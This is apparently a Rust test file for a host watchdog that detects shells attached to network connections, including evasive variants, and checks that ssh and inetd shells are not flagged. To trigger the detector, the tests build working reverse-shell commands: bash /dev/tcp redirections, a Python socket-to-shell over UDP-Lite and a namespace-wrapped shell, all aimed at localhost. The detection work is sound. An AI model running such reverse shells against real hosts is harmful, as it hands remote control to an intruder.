//! Shells whose standard input is a connection, and those of honest programs that look like it.

use super::support::eyes::Eyes;
use super::support::player::Player;
use super::support::{Running, left_out, wait_for};
use super::{of, one};
use host_watchdog::finding::Code;
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::Command;
use tempfile::TempDir;

/// The process below this one that runs with these arguments.
fn below(pid: u32, arguments: &[u8]) -> u32 {
    let mut found = None;
    wait_for("the shell below it", || {
        let children =
            std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
        found = children.split_whitespace().filter_map(|child| child.parse().ok()).find(|child: &u32| {
            std::fs::read(format!("/proc/{child}/cmdline")).is_ok_and(|line| line == arguments)
        });
        found.is_some()
    });
    found.unwrap()
}

#[test]
fn a_shell_that_takes_its_commands_from_a_connection_is_found_with_the_other_end() {
    let mut eyes = Eyes::of("deception");
    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = intruder.local_addr().unwrap().port();
    let script = format!("exec /bin/sh -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&0");
    let shell = Running::program(Command::new("/bin/bash").args(["-c", &script]), "/bin/sh");
    let _connection = intruder.accept().unwrap();
    let found = one(&mut eyes, Code::SocketShell, shell.pid());
    assert_eq!(found.evidence["what"], "127.0.0.1");
    let how = found.evidence["how"][0].as_str().unwrap();
    assert!(how.ends_with(&format!("to 127.0.0.1:{port}")), "{how}");
}

#[test]
fn a_shell_of_another_name_on_a_connection_of_another_protocol_is_found() {
    let mut eyes = Eyes::of("deception");
    let folder = TempDir::new().unwrap();
    let shell = folder.path().join("bash-static");
    std::fs::copy("/bin/bash", &shell).unwrap();
    let program = format!(
        "import os,socket,sys\ntry: s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,136)\nexcept OSError: print('no UDP-Lite',flush=True),sys.exit()\ns.connect(('127.0.0.1',9))\nos.dup2(s.fileno(),0)\nprint('ready',flush=True)\nos.execv('{}',['sh'])",
        shell.display()
    );
    let mut player = Player::start(&mut Player::python(&program));
    if player.line() != "ready" {
        eprintln!("LEFT OUT: this test needs UDP-Lite in the kernel");
        return;
    }
    let link = format!("/proc/{}/exe", player.pid());
    wait_for("the shell", || std::fs::read_link(&link).is_ok_and(|link| link == shell));
    let found = one(&mut eyes, Code::SocketShell, player.pid());
    assert!(found.evidence["how"][0].as_str().unwrap().ends_with("to 127.0.0.1:9"), "{found:?}");
}

#[test]
fn the_shells_of_ssh_and_the_scripts_of_inetd_are_quiet() {
    let mut eyes = Eyes::of("deception");
    // As sshd runs a command without a terminal.
    let (_ours, theirs) = UnixStream::pair().unwrap();
    let (input, output) = (OwnedFd::from(theirs.try_clone().unwrap()), OwnedFd::from(theirs));
    let mut command = Command::new("/bin/sh");
    let ssh = Running::program(command.args(["-c", "read x; exit"]).stdin(input).stdout(output), "/bin/sh");
    // As inetd runs a script, and this a shell of its own.
    let folder = TempDir::new().unwrap();
    let script = folder.path().join("agent");
    std::fs::write(&script, "bash -c 'read x; exit'\nexit\n").unwrap();
    let door = TcpListener::bind("127.0.0.1:0").unwrap();
    let _client = TcpStream::connect(door.local_addr().unwrap()).unwrap();
    let (connection, _) = door.accept().unwrap();
    let (input, output) = (OwnedFd::from(connection.try_clone().unwrap()), OwnedFd::from(connection));
    let agent =
        Running::program(Command::new("/bin/bash").arg(&script).stdin(input).stdout(output), "/bin/bash");
    let children = format!("/proc/{0}/task/{0}/children", agent.pid());
    let child = || std::fs::read_to_string(&children).ok()?.trim().parse::<u32>().ok();
    wait_for("the script's own shell", || {
        child().is_some_and(|child| {
            std::fs::read(format!("/proc/{child}/cmdline")).is_ok_and(|line| line.starts_with(b"bash\0-c"))
        })
    });
    for pid in [ssh.pid(), agent.pid(), child().unwrap()] {
        assert_eq!(of(&mut eyes, pid), [], "{pid}");
    }
}

#[test]
fn a_script_that_goes_out_to_somebody_is_no_excuse_for_its_shell_but_may_print_there() {
    let mut eyes = Eyes::of("deception");
    let folder = TempDir::new().unwrap();
    let script = folder.path().join("wrap");
    std::fs::write(&script, "bash -i\nexit\n").unwrap();
    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = intruder.local_addr().unwrap().port();
    let out =
        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec bash {} <&3 >&3 2>/dev/null", script.display());
    let wrapped = Running::program(Command::new("/bin/bash").args(["-c", &out]), "/bin/bash");
    let _connection = intruder.accept().unwrap();
    let shell = below(wrapped.pid(), b"bash\0-i\0");
    // We are above both of them and listen, but not where its own end is.
    let found = one(&mut eyes, Code::SocketShell, shell);
    assert!(found.evidence["how"][0].as_str().unwrap().ends_with(&format!("to 127.0.0.1:{port}")));
    // A report that is sent away.
    std::fs::write(&script, "sh -c 'sleep 600; exit'\nexit\n").unwrap();
    let report = format!("exec bash {} </dev/null >/dev/tcp/127.0.0.1/{port}", script.display());
    let report = Running::program(Command::new("/bin/bash").args(["-c", &report]), "/bin/bash");
    let _report = intruder.accept().unwrap();
    let shell = below(report.pid(), b"sh\0-c\0sleep 600; exit\0");
    assert_eq!(of(&mut eyes, shell), []);
}

#[test]
fn a_shell_in_a_network_namespace_of_its_own_is_found_on_the_connection_it_was_handed() {
    let mut eyes = Eyes::of("deception");
    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = intruder.local_addr().unwrap().port();
    let script =
        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec unshare -rn bash -c 'read x; exit' <&3 >&3 2>&3");
    let mut shell = Command::new("/bin/bash");
    let shell = Running::leader(shell.args(["-c", &script]));
    let (_connection, _) = intruder.accept().unwrap();
    let own = std::fs::read_link("/proc/self/ns/net").unwrap();
    let arguments = format!("/proc/{}/cmdline", shell.pid());
    let link = format!("/proc/{}/ns/net", shell.pid());
    let mut is_refused = false;
    wait_for("a shell elsewhere", || {
        is_refused = !Path::new(&link).exists();
        let is_shell = std::fs::read(&arguments).is_ok_and(|shown| shown.starts_with(b"bash\0-c\0read"));
        is_refused || (is_shell && std::fs::read_link(&link).is_ok_and(|link| link != own))
    });
    if left_out("user namespaces", !is_refused) {
        return;
    }
    let found = one(&mut eyes, Code::SocketShell, shell.pid());
    assert!(found.evidence["how"][0].as_str().unwrap().ends_with(&format!("to 127.0.0.1:{port}")));
}

#[test]
fn a_socket_that_becomes_a_connection_later_is_found() {
    let mut eyes = Eyes::of("deception");
    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = intruder.local_addr().unwrap().port();
    // Whoever started the shell holds the socket too, and connects it when asked.
    let program = format!(
        "import socket,subprocess,sys\ns=socket.socket()\np=subprocess.Popen(['/bin/sh','-c','sleep 600; exit'],stdin=s,stdout=s)\nprint(p.pid,flush=True)\nsys.stdin.readline()\ns.connect(('127.0.0.1',{port}))\nprint('connected',flush=True)\np.wait()"
    );
    let mut opener = Player::start(&mut Player::python(&program));
    let shell: u32 = opener.line().parse().unwrap();
    assert_eq!(of(&mut eyes, shell), []);
    opener.hang_up();
    assert_eq!(opener.line(), "connected");
    let _connection = intruder.accept().unwrap();
    assert_eq!(one(&mut eyes, Code::SocketShell, shell).evidence["what"], "127.0.0.1");
}
